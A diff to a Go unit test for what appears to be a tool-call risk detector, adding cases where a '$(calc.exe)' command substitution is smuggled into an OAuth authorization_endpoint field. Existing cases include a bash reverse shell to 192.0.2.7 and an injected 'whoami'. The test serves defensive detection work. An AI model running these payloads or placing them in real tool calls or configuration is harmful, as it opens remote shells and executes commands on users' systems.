@@ -22,5 +22,7 @@ func TestSignalsOfValues(t *testing.T) {
 	f("note", `{"text":"see http://2852039166/latest; whoami"}`, "argument_shape", 0)
 	f("execute_command", `{"command":"bash -i >& /dev/tcp/192.0.2.7/44 0>&1"}`, "dangerous_command", 0.9)
 	f("execute_command", `{"command":"ls -la"}`, "dangerous_command", 0)
+	f("discover", `{"meta":{"authorization_endpoint":"a:$(calc.exe)?x"}}`, "endpoint_command", 0.9)
+	f("discover", `{"meta":{"authorization_endpoint":"https://login.example/authorize"}}`, "endpoint_command", 0)
 	f("get_page", `{"topic":"bash -i >& /dev/tcp/192.0.2.7/44 0>&1"}`, "dangerous_command", 0)
 }
